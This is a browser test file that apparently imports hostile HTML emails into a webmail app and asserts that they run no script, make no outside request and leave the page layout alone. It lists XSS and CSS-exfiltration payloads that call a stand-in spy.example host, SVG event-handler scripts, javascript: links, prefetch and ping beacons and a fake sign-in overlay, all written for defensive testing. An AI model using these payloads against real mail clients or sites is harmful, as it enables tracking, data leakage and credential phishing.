"""Hostile mail on its page, in a real browser: no script runs, no request leaves, no style escapes its frame."""

from __future__ import annotations

import re
from datetime import timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.test_story import become_the_owner
from tests.house import House
from tests.mail.test_safe import ATTACKS, FETCHING
from tests.world import BEN, CLEO, FIRST_DAY, write_mbox

ESCAPING = [
    "<style>html, body, h1 { display: none !important; background: red !important }</style>x",
    "<style>@import url(https://spy.example/1.css);</style>x",
    "<style>@font-face { font-family: s; src: url(https://spy.example/1) } body { font-family: s }</style>x",
    "<style>h1::after { content: url(https://spy.example/1) }</style><h1>x</h1>",
    "<style>input[value^='a'] { background: url(https://spy.example/a) }</style><input value=a>",
    "<style>:root { --desk: red; --ink: red } * { position: fixed !important; inset: 0 !important }</style>x",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>",
    "<div style='position:absolute;top:-900px;left:-900px;width:9000px;height:9000px'>x</div>",
    "<link rel=stylesheet href=https://spy.example/1.css>x",
    "<link rel=preconnect href=https://spy.example>x",
    "<link rel=prefetch href=https://spy.example/1>x",
    "<svg><use href='https://spy.example/1.svg#a'/></svg>",
    "<svg><image href='https://spy.example/1.png' onload=alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><feImage href='https://spy.example/1.png'/></svg>",
    "<svg><style>* { background: url(https://spy.example/1) }</style></svg>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<portal src=https://spy.example/1></portal><fencedframe src=https://spy.example/2></fencedframe>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<a href='/sign-out' target=_top ping=https://spy.example/1>x</a>",
]
MAILS = [*ATTACKS, *FETCHING, *ESCAPING]
STANDING = """() => [document.body, document.querySelector("h1"), document.querySelector(".rack")].map(part => {
  const style = getComputedStyle(part), place = part.getBoundingClientRect()
  return [style.display, style.backgroundColor, style.color, style.position, place.width > 0].join(" ")
})"""


def hostile(number: int, html: str) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = CLEO, BEN, f"Hostile number {number}"
    mail["Date"], mail["Message-ID"] = (
        format_datetime(FIRST_DAY + timedelta(hours=2 * number)),
        f"<h{number}@tiles.example>",
    )
    mail.set_content(f"Plain words of hostile number {number}.")
    mail.add_alternative(html.encode("utf-8", "surrogatepass"), maintype="text", subtype="html")
    return mail.as_bytes()


def pages_of_all(page: Page) -> set[str]:
    """Return the addresses of the pages of all messages that the search finds, a hundred at most."""
    asked = [f"/search?q=hostile+after:2026-03-{day:02}+before:2026-03-{day + 1:02}" for day in range(2, 13)]
    shown = [page.goto(address) and page.content() for address in asked]
    return set(re.findall(r'href="(/messages/[\w-]{12})"', "".join(map(str, shown))))


def watched(page: Page, ours: str) -> list[str]:
    """Return a list of what a page does that no mail may do, which grows as it does so."""
    deeds: list[str] = []
    page.on("dialog", lambda dialog: (deeds.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda asked: deeds.append(asked.url) if not asked.url.startswith((ours, "data:")) else None)
    return deeds


def standing(page: Page, address: str) -> tuple[str, ...]:
    """Open the page of a letter down to its design; return how our own parts of it stand then."""
    page.goto(address)
    page.evaluate("document.querySelector('iframe.designed')?.scrollIntoView()")
    page.wait_for_timeout(30)
    return (page.url.removesuffix(address), *page.evaluate(STANDING))


@pytest.mark.one_engine
def test_a_hundred_attacks_do_nothing_on_the_page_of_their_letter(page: Page, running: House, tmp_path: Path) -> None:
    become_the_owner(page, running)
    page.goto("/imports")
    box = write_mbox(tmp_path / "hostile.mbox", [hostile(n, html) for n, html in enumerate(MAILS)])
    page.locator("input[type=file]").set_input_files(box)
    page.get_by_role("button", name="Bring these files").click()
    expect(page.get_by_text(f"{len(MAILS)} new")).to_be_visible(timeout=60_000)
    addresses, deeds = pages_of_all(page), watched(page, f"http://127.0.0.1:{running.web}/")

    stood = {standing(page, address) for address in sorted(addresses)}

    assert len(MAILS) >= 100
    assert len(addresses) == len(MAILS)
    assert deeds == []
    assert len(stood) == 1  # no style reached beyond its frame, and no page was led away
